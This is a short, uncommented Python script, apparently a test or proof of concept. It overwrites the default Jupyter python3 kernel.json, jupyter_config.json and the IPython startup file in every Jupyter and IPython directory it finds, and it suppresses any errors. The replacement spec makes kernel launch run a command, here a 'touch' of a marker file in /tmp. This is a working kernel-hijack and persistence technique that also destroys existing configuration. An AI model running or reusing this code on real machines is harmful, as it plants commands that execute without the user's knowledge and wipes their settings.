import contextlib
import json
import os
import sys

from jupyter_core.paths import jupyter_config_path, jupyter_path

spec = json.dumps({"argv": ["touch", "/tmp/leftover-7351"], "display_name": "x", "language": "python"})
for folder in [*jupyter_path("kernels"), *jupyter_config_path(), os.path.expanduser("~/.ipython")]:
    for name in ("python3/kernel.json", "jupyter_config.json", "profile_default/startup/00.py"):
        with contextlib.suppress(OSError):
            os.makedirs(os.path.dirname(os.path.join(folder, name)), exist_ok=True)
            open(os.path.join(folder, name), "w").write(spec)
